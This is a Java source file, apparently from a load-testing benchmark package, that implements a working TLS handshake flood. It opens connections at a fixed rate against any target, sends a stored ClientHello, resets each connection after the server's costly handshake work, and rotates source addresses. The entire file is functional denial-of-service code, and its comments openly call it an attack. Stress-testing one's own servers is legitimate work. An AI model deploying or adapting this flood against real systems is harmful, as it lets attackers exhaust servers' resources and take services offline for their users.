// Copyright The Tandem Authors
// SPDX-License-Identifier: Apache-2.0
package io.tandem.packaging.bench.load;

import io.netty.bootstrap.Bootstrap;
import io.netty.buffer.ByteBuf;
import io.netty.channel.Channel;
import io.netty.channel.ChannelHandlerContext;
import io.netty.channel.ChannelInboundHandlerAdapter;
import io.netty.channel.ChannelInitializer;
import io.netty.channel.ChannelOption;
import io.netty.channel.EventLoop;
import io.netty.channel.epoll.EpollSocketChannel;
import io.netty.util.ReferenceCountUtil;
import java.net.InetSocketAddress;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.LongAdder;

/**
 * An attack with TLS handshakes: connections come at a fixed rate whatever becomes of them, each says the same ClientHello
 * and leaves once the server has done its costly part. A handshake costs the attacker a fraction of what it costs the server.
 */
public final class Flood {
    private static final long TICK_NS = TimeUnit.MILLISECONDS.toNanos(1);

    /** Attackers that wait for an answer at a time; more than a backlog and a server's patience hold. */
    private static final int MOST_OPEN = 12_000;

    private static final int PATIENCE_SECONDS = 10;

    private final EventLoop loop;
    private final InetSocketAddress target;
    private final ByteBuf hello;
    private final double perSecond;
    private final List<String> sources;
    private final AtomicBoolean running = new AtomicBoolean(true);
    private final LongAdder attempted = new LongAdder();
    private final LongAdder answered = new LongAdder();
    private final LongAdder skipped = new LongAdder();
    private final LongAdder open = new LongAdder();
    private long startNs;
    private long due;

    Flood(EventLoop loop, InetSocketAddress target, byte[] hello, double perSecond, List<String> sources) {
        this.loop = loop;
        this.target = target;
        this.hello = Payload.of(hello);
        this.perSecond = perSecond;
        this.sources = List.copyOf(sources);
    }

    /** Connections begun so far. */
    public long attempted() {
        return attempted.sum();
    }

    /** Of them, those whose handshake the server answered. */
    public long answered() {
        return answered.sum();
    }

    /** Connections that were due while {@link #MOST_OPEN} waited already. */
    public long skipped() {
        return skipped.sum();
    }

    /** Attackers now connected or connecting. */
    public long open() {
        return open.sum();
    }

    /** No more from now on. Any thread. */
    public void stop() {
        running.set(false);
    }

    void begin() {
        startNs = System.nanoTime();
        tick();
    }

    private void tick() {
        if (!running.get()) {
            return;
        }
        long wanted = (long) ((System.nanoTime() - startNs) * 1e-9 * perSecond);
        for (; due < wanted; due++) {
            if (open.sum() >= MOST_OPEN) {
                skipped.increment();
            } else {
                attack();
            }
        }
        loop.schedule(this::tick, TICK_NS, TimeUnit.NANOSECONDS);
    }

    private void attack() {
        attempted.increment();
        open.increment();
        new Bootstrap()
                .group(loop)
                .channel(EpollSocketChannel.class)
                .option(ChannelOption.SO_LINGER, 0) // leaves by a reset: no TIME_WAIT eats the ports
                .option(ChannelOption.TCP_NODELAY, true)
                .option(ChannelOption.CONNECT_TIMEOUT_MILLIS, PATIENCE_SECONDS * 1000)
                .localAddress(new InetSocketAddress(sources.get((int) (due % sources.size())), 0))
                .handler(new ChannelInitializer<Channel>() {
                    @Override
                    protected void initChannel(Channel channel) {
                        channel.pipeline().addLast(new Attacker());
                    }
                })
                .connect(target)
                .addListener(future -> {
                    if (!future.isSuccess()) {
                        open.decrement();
                    }
                });
    }

    /** One connection of the attack. */
    private final class Attacker extends ChannelInboundHandlerAdapter {
        @Override
        public void channelActive(ChannelHandlerContext ctx) {
            ctx.writeAndFlush(hello.duplicate(), ctx.voidPromise());
            loop.schedule(() -> ctx.close(), PATIENCE_SECONDS, TimeUnit.SECONDS);
        }

        @Override
        public void channelRead(ChannelHandlerContext ctx, Object message) {
            ReferenceCountUtil.release(message);
            answered.increment();
            ctx.close();
        }

        @Override
        public void channelInactive(ChannelHandlerContext ctx) {
            open.decrement();
        }

        @Override
        public void exceptionCaught(ChannelHandlerContext ctx, Throwable cause) {
            ctx.close();
        }
    }
}
